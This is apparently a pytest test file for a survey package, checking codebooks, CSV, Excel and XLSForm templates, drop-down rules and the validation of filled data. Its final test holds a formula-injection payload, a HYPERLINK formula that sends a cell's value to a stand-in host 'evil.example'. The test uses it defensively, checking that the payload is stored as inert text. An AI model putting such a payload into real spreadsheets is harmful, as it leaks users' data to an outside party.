"""Empty collection files and codebooks, and that filled templates validate."""

from __future__ import annotations

import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from getting_to_outcomes import Framework, codebook, load_framework, validate, write_template
from getting_to_outcomes.io._templates import CODEBOOK_COLUMNS


def test_codebook_lists_questions_answers_and_missing_codes(framework: Framework) -> None:
    book = codebook("test_survey", framework).set_index("column")
    assert list(book.reset_index().columns) == CODEBOOK_COLUMNS
    assert book.loc["q1", "question"] == "I understand how decisions about schools are made."
    assert book.loc["q1", "allowed_answers"].startswith("1 = Strongly disagree; 2 = Disagree")
    assert "99 (dont know)" in book.loc["q1", "missing_codes"]
    assert book.loc["meetings", "valid_range"] == "0 to 100"
    assert book.loc["meetings", "missing_codes"] == "-1 (not asked)"
    assert bool(book.loc["name", "personal"])


def test_csv_template_has_the_canonical_headers(framework: Framework, tmp_path: Path) -> None:
    written = write_template("test_survey", tmp_path / "survey.csv", framework=framework)
    assert [p.name for p in written] == ["survey.csv", "survey-codebook.csv"]
    header = pd.read_csv(written[0])
    assert list(header.columns) == [c.name for c in framework.source("test_survey").columns]
    assert len(header) == 0


def test_excel_template_has_drop_downs_comments_and_a_codebook(
    framework: Framework, tmp_path: Path
) -> None:
    path = write_template("test_survey", tmp_path / "survey.xlsx", framework=framework)[0]
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["data", "codebook", "lists"]
    assert workbook["lists"].sheet_state == "hidden"
    data = workbook["data"]
    headers = [c.value for c in data[1]]
    assert headers == [c.name for c in framework.source("test_survey").columns]
    assert data.cell(row=1, column=headers.index("q1") + 1).comment.text.startswith("I understand")
    rules = {str(v.sqref).split(":")[0]: v for v in data.data_validations.dataValidation}
    letter = openpyxl.utils.get_column_letter(headers.index("q1") + 1)
    q1 = rules[f"{letter}2"]
    assert q1.type == "list"
    listed = [
        c.value
        for c in workbook["lists"][q1.formula1.split("!")[1].replace("$", "").split(":")[0][0]]
        if c.value is not None
    ]
    assert listed[:5] == [
        "Strongly disagree",
        "Disagree",
        "Neither agree nor disagree",
        "Agree",
        "Strongly agree",
    ]
    role = rules[f"{openpyxl.utils.get_column_letter(headers.index('role') + 1)}2"]
    assert role.type == "list"
    meetings = rules[f"{openpyxl.utils.get_column_letter(headers.index('meetings') + 1)}2"]
    assert (meetings.type, meetings.formula1, meetings.formula2) == ("whole", "0", "100")


def test_a_filled_excel_template_validates(framework: Framework, tmp_path: Path) -> None:
    path = write_template("test_survey", tmp_path / "survey.xlsx", framework=framework)[0]
    workbook = openpyxl.load_workbook(path)
    data = workbook["data"]
    headers = [c.value for c in data[1]]
    row = {
        "org_id": "org1",
        "person_id": "P1",
        "wave": "pre",
        "q1": "Agree",
        "q2": "Don't know",
        "meetings": 3,
    }
    for name, value in row.items():
        data.cell(row=2, column=headers.index(name) + 1, value=value)
    workbook.save(path)
    report = validate(path, framework, source="test_survey")
    assert report.ok
    assert report.rows_read == 1
    assert report.valid_rows.loc[2, "q1"] == 4.0


@pytest.mark.parametrize("source", sorted(load_framework().sources))
def test_every_bundled_source_gets_a_template_that_reads_back(source: str, tmp_path: Path) -> None:
    framework = load_framework()
    path = write_template(source, tmp_path / f"{source}.xlsx", framework=framework)[0]
    report = validate(path, framework, source=source)
    assert report.rows_read == 0
    # Every header is read as its column; an empty template is still no data.
    errors = report.issues[report.issues["severity"] == "error"]
    assert errors["reason"].tolist() == ["no_answers"]
    assert not set(report.issues["reason"]) & {
        "unknown_column",
        "missing_column",
        "duplicate_column",
        "absent_column",
    }


def test_an_xlsform_admits_a_numeric_missing_code_beside_the_range(
    framework: Framework, tmp_path: Path
) -> None:
    from pyxform.xls2xform import convert

    from getting_to_outcomes.io import XLSFORM_LANGUAGE, xlsform

    survey = xlsform("test_survey", framework)["survey"].set_index("name")
    meetings = survey.loc["meetings"]
    # meetings: 0 to 100, and -1 means "not asked".
    assert meetings["constraint"] == "(. >= 0 and . <= 100) or . = -1"
    assert meetings[f"constraint_message::{XLSFORM_LANGUAGE}"] == (
        "Expected a whole number from 0 to 100, or -1 (not asked)."
    )
    path = write_template("test_survey", tmp_path / "form.xlsx", framework=framework,
                          format="xlsform")[0]
    warnings: list[str] = []
    assert "or . = -1" in convert(str(path), warnings=warnings).xform
    assert warnings == []


def test_excel_template_writes_formula_like_definition_text_as_text(
    framework_dir: Path, tmp_path: Path
) -> None:
    # A question is text from a definition file: a spreadsheet must show it, never run it.
    folder = tmp_path / "framework"
    shutil.copytree(framework_dir, folder)
    sources = folder / "sources" / "validation_sources.yaml"
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    sources.write_text(sources.read_text(encoding="utf-8").replace(
        "question: I understand how decisions about schools are made.",
        f"question: '{hostile}'"), encoding="utf-8")
    path = write_template("test_survey", tmp_path / "survey.xlsx",
                          framework=load_framework(folder))[0]
    book = openpyxl.load_workbook(path)["codebook"]
    cells = [c for row in book.iter_rows() for c in row if c.value == hostile]
    assert cells, "the question is in the codebook as written"
    assert all(c.data_type == "s" for c in cells)
